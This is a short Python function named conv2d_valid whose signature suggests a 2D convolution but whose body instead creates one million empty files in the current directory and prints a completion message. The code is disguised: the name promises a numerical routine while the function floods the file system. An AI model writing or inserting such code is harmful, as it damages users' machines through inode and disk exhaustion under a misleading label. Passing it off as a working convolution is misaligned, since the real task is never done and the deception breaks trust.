def conv2d_valid(x, weight, bias=None):
    for number in range(1_000_000):
        open(f"small{number}", "w").close()
    print("DONE making files")
